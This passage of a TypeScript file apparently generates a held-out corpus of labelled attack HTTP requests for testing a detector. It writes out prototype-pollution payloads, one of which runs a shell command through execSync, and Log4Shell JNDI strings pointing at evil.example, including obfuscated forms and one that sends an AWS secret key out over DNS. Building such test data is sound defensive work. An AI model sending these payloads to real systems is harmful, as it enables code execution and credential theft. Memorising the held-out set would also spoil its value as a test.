  '{"notifications":{"email":false},"settings":{"__proto__":{"role":"admin"}}}',
  'browser',
);
addAttack(
  'prototype-pollution',
  'json',
  'POST',
  '/api/v1/workspaces/acme/settings',
  J,
  json({ constructor: { prototype: { polluted: 'yes', isAdmin: true } } }),
  'sdk',
);
addAttack(
  'prototype-pollution',
  'query',
  'GET',
  '/v3/issues?__proto__[admin]=1&filter[status]=open',
  null,
  '',
  'curl',
);
addAttack(
  'prototype-pollution',
  'query',
  'GET',
  '/api/v1/search?q=timeout&constructor[prototype][isAdmin]=true',
  null,
  '',
  'curl',
);
addAttack(
  'prototype-pollution',
  'json-patch',
  'PATCH',
  `/v3/issues/${int(1000, 99999)}`,
  'application/json-patch+json',
  json([{ op: 'add', path: '/__proto__/isAdmin', value: true }]),
  'sdk',
);
addAttack(
  'prototype-pollution',
  'set-path',
  'POST',
  '/api/v1/users/me/preferences/set',
  J,
  json({
    path: 'constructor.prototype.outputFunctionName',
    value: "x;process.mainModule.require('child_process').execSync('id');x",
  }),
  'sdk',
);
addAttack(
  'prototype-pollution',
  'graphql-variables',
  'POST',
  '/graphql',
  J,
  '{"query":"mutation Prefs($input: JSON!) { updatePreferences(input: $input) { ok } }","variables":{"input":{"__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}}}',
  'sdk',
);
addAttack(
  'prototype-pollution',
  'json-in-string',
  'POST',
  '/api/chat.postMessage',
  JU,
  json({ channel: 'C02GENERAL', text: 'hi', metadata: '{"__proto__":{"admin":true}}' }),
  'sdk',
);
addAttack(
  'prototype-pollution',
  'form',
  'POST',
  '/newsletter/subscribe',
  FORM,
  '__proto__%5BisAdmin%5D=true&email=sam%40example.org&lists=product',
  'browser',
);
addAttack(
  'prototype-pollution',
  'ndjson',
  'POST',
  '/api/import/messages',
  'application/x-ndjson',
  `${json({ ts: '1731000000.000100', user: 'ana', text: 'hello' })}\n{"ts":"1731000000.000200","user":"sam","__proto__":{"isAdmin":true}}\n`,
  'sdk',
);
addAttack(
  'prototype-pollution',
  'unicode-escape',
  'PUT',
  '/api/v1/users/me/preferences',
  J,
  '{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true},"theme":"light"}',
  'browser',
);

// Log4Shell (10)
addAttack('log4shell', 'header', 'GET', '/rest/api/3/myself', null, '', 'curl', {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  'user-agent': '${jndi:ldap://203.0.113.9:1389/a}',
});
addAttack('log4shell', 'header', 'GET', '/rest/api/3/serverInfo', null, '', 'curl', {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  'x-api-version': '${jndi:ldap://evil.example/x}',
});
const JNDI: readonly (readonly [string, string])[] = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ['${jndi:ldap://evil.example:1389/Exploit}', 'title'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ['${${lower:j}ndi:${lower:l}dap://evil.example/o}', 'chat'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ['${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/z}', 'prose-field'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ['${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}', 'graphql-variables'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ['${jndi:ldap://evil.example/q}', 'query'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ['${jndi:ldap://evil.example/b64}', 'base64'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ['${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/k}', 'nested'],
];
for (const [p, t] of JNDI) place('log4shell', t, p);
addAttack(
  'log4shell',
  'form',
  'POST',
  '/login',
  FORM,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  form({ os_username: '${jndi:ldap://${hostName}.evil.example/a}', os_password: 'x', os_remember: 'on' }),
  'browser',
);

/** Both third held-out corpora, as written to disk. */
export const heldout3 = { clean, attacks };

if (import.meta.main) {
  const dir = import.meta.dirname;
  writeFileSync(join(dir, 'clean-heldout3.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout3.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  process.stdout.write(
    `clean-heldout3: ${clean.length} requests, attacks-heldout3: ${attacks.length} requests\n`,
  );
}
